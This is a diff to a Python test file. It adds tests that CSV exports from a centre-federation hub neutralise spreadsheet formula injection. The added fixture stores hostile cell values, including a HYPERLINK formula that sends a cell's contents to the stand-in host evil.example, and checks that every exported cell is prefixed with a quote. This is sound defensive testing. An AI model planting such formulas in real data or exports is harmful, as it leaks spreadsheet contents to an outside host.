@@ -9,7 +9,8 @@ import io
 import pypdf
 import pytest
 
-from federation import exports, reports
+from federation import exports, reports, store
+from sync import csvsafe
 from tests import hub_sample as sample
 from tests.hub_sample import A, NOW
 
@@ -103,3 +104,43 @@ def test_pdf_report_of_an_empty_period_still_renders(engine):
         view = reports.overview(conn, reports.parse_period("2020-01-01", "2020-01-31"), NOW)
     text = pdf_text(exports.report_pdf(view, None))
     assert "Tous les centres" in text and "Total des passages 0" in text
+
+
+# ---------------------------------------------------------------- formula injection
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', "+SUM(1;2)", "@SUM(1)", "-2+3",
+           "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def hostile(engine):
+    """A centre whose name is a formula, and a device's reasons that are formulas too
+    (a reason is whatever text a device sent)."""
+    with engine.begin() as conn:
+        conn.execute(store.centres.update().where(store.centres.c.id == A)
+                     .values(name='=HYPERLINK("http://evil.example";"Tilleuls")'))
+        conn.execute(store.p_visit_counts.insert(), [
+            dict(centre_id=A, day="2026-03-03", reason=reason, recorded_by="resident", visits=1)
+            for reason in HOSTILE])
+    with engine.connect() as conn:
+        return reports.centre_names(conn)[A]
+
+
+def test_no_csv_cell_can_start_a_formula(engine, hostile):
+    view = view_of(engine, A)
+    for data in (exports.indicators_csv(view, hostile), exports.visits_per_week_csv(view, hostile)):
+        rows = read_csv(data)
+        cells = [cell for row in rows for cell in row]
+        assert not [cell for cell in cells if cell[:1] in csvsafe.FORMULA_STARTS]
+        assert "'" + hostile in cells  # the text is kept, shown as text
+    reasons = {row[4] for row in read_csv(exports.indicators_csv(view, hostile))
+               if row[3] == "Passages par motif"}
+    assert reasons >= {"'" + reason for reason in HOSTILE}
+
+
+def test_hub_and_kiosk_share_one_neutraliser():
+    from kiosk.core import exports as kiosk_exports
+
+    assert kiosk_exports.csvsafe is csvsafe and exports.csvsafe is csvsafe
+    assert csvsafe.row(["=1+1", "-2", "@x", "\tx", "ok", 3, -2, None]) == \
+        ["'=1+1", "'-2", "'@x", "'\tx", "ok", 3, -2, ""]
